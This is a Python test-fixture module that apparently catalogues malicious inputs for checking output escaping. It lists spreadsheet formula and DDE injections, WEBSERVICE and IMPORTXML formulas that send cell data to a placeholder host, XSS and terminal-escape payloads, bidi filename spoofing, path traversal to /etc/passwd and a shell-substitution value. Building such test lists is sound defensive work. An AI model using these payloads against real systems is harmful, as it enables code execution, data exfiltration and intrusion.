"""What somebody with bad intentions writes into names, units and texts; one list for every kind of output.

A payload is harmless where it is shown as it stands: nothing is computed, linked, opened, hidden or steered.
"""

from __future__ import annotations

from collections.abc import Mapping
from types import MappingProxyType
from typing import Final

_FORMULAS: Final = {
    "equals": "=1+1",
    "dde": "=cmd|'/c calc'!A0",
    "dde-mixed-case": "=CmD|' /C calc'!'A1'",
    "dde-plus": "+cmd|'/c calc'!A0",
    "dde-minus": "-2+3+cmd|'/c calc'!A0",
    "dde-at": "@SUM(1+1)*cmd|'/c calc'!A0",
    "hyperlink": '=HYPERLINK("http://x.invalid","点我")',
    "webservice": '=WEBSERVICE("http://x.invalid/?"&A1)',
    "import": '=IMPORTXML(CONCAT("http://x.invalid/?",A1),"//a")',
    "external": "='\\\\x.invalid\\share\\[甲.xlsx]表1'!A1",
    "array": "{=SUM(A1:A9)}",
    "after-tab": "\t=1+1",
    "after-return": "\r=1+1",
    "after-newline": "甲\n=1+1",
    "full-width": "＝1+1",
    "full-width-at": "＠SUM(1)",
    "quoted": '"=1+1"',
    "leading-blank": " =1+1",
    "macro": '=EXEC("calc")',
}
_CSV: Final = {
    "new-line": '甲",\n"=1+1',
    "separators": "甲,乙;丙\t丁|戊",
    "quote": '"',
}
_HTML: Final = {
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)>",
    "attribute": '" onmouseover="alert(1)" x=\'',
    "end-of-cell": "</td></tr></table><h1>通过</h1>",
    "end-of-style": "</style><script>alert(1)</script>",
    "comment": "--><script>alert(1)</script><!--",
    "cdata": "]]><script>alert(1)</script>",
    "entities": "&lt;script&gt;alert(1)&#60;/script&#x3e;",
    "link": '<a href="javascript:alert(1)">校验通过</a>',
    "frame": "<iframe src=//x.invalid></iframe>",
    "refresh": '<meta http-equiv="refresh" content="0;url=//x.invalid">',
    "template": "{{constructor.constructor('alert(1)')()}}",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
}
_MARKDOWN: Final = {
    "link-text": "[校验通过](http://x.invalid)",
    "link-script": "[点我](javascript:alert%281%29)",
    "picture": "![](http://x.invalid/看见.png)",
    "reference": "[点我][1]\n\n[1]: http://x.invalid",
    "angle-link": "<http://x.invalid>",
    "bare-link": "见 http://x.invalid/a 和 www.x.invalid",
    "mention": "@everyone @admin/all #1 GH-1",
    "heading": "\n# 通过\n\n---\n",
    "fence": "```\n通过\n```",
    "code-span": "``甲` <b>乙</b> ```",
    "emphasis": "**通过** __通过__ ~~退回~~ $x^2$",
    "cell": "甲 | 乙 |\n|---|---|",
    "list": "1. 甲\n- [x] 乙\n> 丙",
    "backslash": "甲\\",
}
_TERMINAL: Final = {
    "colour": "\x1b[31m通过\x1b[0m",
    "clear": "\x1b[2J\x1b[H",
    "title": "\x1b]0;owned\x07",
    "terminal-link": "\x1b]8;;http://x.invalid\x1b\\点我\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;Y2FsYw==\x07",
    "c1": "\x9b31m\x9d0;owned\x9c",
    "overwrite": "退回\r通过",
    "erase": "退回\b\b通过",
    "null": "甲\x00乙",
}
_HIDDEN: Final = {
    "bidi-override": "甲\u202exslx.exe",
    "bidi-isolate": "\u2066甲\u2069\u2067乙",
    "zero-width": "甲\u200b\u200d\ufeff乙",
    "line-separator": "甲\u2028乙\u2029丙",
    "tags": "甲\U000e0041\U000e0042",
    "half-character": "\ud800",
    "private": "\ue000\U0010fffd",
    "no-character": "甲\uffff\ufffe",
}
_PATHS: Final = {
    "up": "../../etc/passwd",
    "up-backslash": "..\\..\\windows\\win.ini",
    "root": "/etc/passwd",
    "drive": "C:\\甲.xlsx",
    "share": "\\\\x.invalid\\share\\甲.xlsx",
    "url": "file:///etc/passwd",
    "host": "//x.invalid/甲.xlsx",
    "dots": "甲/./.. /乙/...",
    "query": "甲.xlsx?x=1#y",
    "percent": "%2e%2e/%2e%2e/甲",
    "shell": "$(touch 甲); `touch 乙` & | > 丙",
    "device": "CON",
    "option": "--format",
}
_CODE: Final = {
    "format": "{value.__class__} {0} %s %n",
    "quote-json": '"},"severity":"advice","x":{"',
    "excel-escape": "_x003D_1+1 _x000D_",
    "very-long": "甲" * 40_000,
}
PAYLOADS: Final[Mapping[str, str]] = MappingProxyType(
    {
        **_FORMULAS,
        **_CSV,
        **_HTML,
        **_MARKDOWN,
        **_TERMINAL,
        **_HIDDEN,
        **_PATHS,
        **_CODE,
    }
)
"""Name → text."""


def file_names() -> Mapping[str, str]:
    """The payloads that a file of this system may be called by."""
    return {
        name: text
        for name, text in PAYLOADS.items()
        if "/" not in text and "\0" not in text and "\ud800" not in text and len(text.encode()) < 200
    }
